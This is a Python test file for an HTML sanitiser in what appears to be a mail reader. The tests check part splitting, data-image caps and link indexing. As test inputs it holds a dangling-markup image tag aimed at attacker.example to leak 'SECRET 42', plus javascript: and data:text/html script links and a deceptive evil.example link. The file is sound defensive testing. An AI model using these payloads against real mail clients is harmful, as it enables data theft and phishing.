"""The sanitiser, pure logic: parts sanitised one by one (H6), data: images kept within a cap
(H4), every link replaced by an index into ``links`` with its text (H5)."""

from __future__ import annotations

import base64
import re

from ui.reader.html_content import (
    MAX_DATA_IMAGE_CHARS,
    link_index,
    prepare_html,
    prepare_parts,
)

PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode()


def _srcs(html: str) -> list[str]:
    return re.findall(r'src="([^"]*)"', html)


def test_split_img_across_three_parts_never_swallows_the_middle_part() -> None:
    parts = [("html", "<img src='http://attacker.example/?"), ("html", "<p>SECRET 42</p>"),
             ("html", "'>")]
    for allow_remote in (False, True):
        prepared = prepare_parts(parts, "k", allow_remote=allow_remote)
        assert "SECRET 42" in prepared.html
        assert not any("SECRET" in src for src in _srcs(prepared.html))
        assert prepared.remote_urls == []
        assert "attacker.example" not in prepared.html


def test_open_markup_in_one_part_is_closed_before_the_next() -> None:
    prepared = prepare_parts([("html", "<a href='https://a.example/'><b>open"),
                              ("text", "plain <part> & more")], "k")
    first, second = prepared.html.split("tw-part", 2)[1:]
    assert "</b></a>" in first
    assert "plain &lt;part&gt; &amp; more" in second
    assert [link.text for link in prepared.links] == ["open"]


def test_data_images_are_kept_within_the_cap() -> None:
    big = "data:image/png;base64," + "A" * (MAX_DATA_IMAGE_CHARS + 10)
    prepared = prepare_html(
        f"<img src='{PNG}'><img src='{big}'><img src='data:image/svg+xml;base64,PHN2Zy8+'>"
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "k")
    assert _srcs(prepared.html) == [PNG]
    assert prepared.dropped_data_images == 2
    assert "data:text/html" not in prepared.html


def test_links_point_at_an_index_and_keep_target_and_text() -> None:
    prepared = prepare_html(
        "<a href='https://evil.example/login'>https://bank.example</a>"
        "<a href='mailto:sales@harbor.example?subject=Hi'>write <i>us</i></a>"
        "<a href='javascript:alert(1)'>js</a>", "doc9")
    assert [(link.href, link.text) for link in prepared.links] == [
        ("https://evil.example/login", "https://bank.example"),
        ("mailto:sales@harbor.example?subject=Hi", "write us"),
    ]
    assert "evil.example" not in prepared.html and "javascript" not in prepared.html
    hrefs = re.findall(r'href="([^"]*)"', prepared.html)
    assert [link_index(h, "doc9") for h in hrefs] == [0, 1]
    assert link_index(hrefs[0], "other") is None


def test_message_cannot_point_at_our_own_scheme() -> None:
    prepared = prepare_html("<img src='twmail://mail/other/cid/x'>", "k")
    assert _srcs(prepared.html) == []
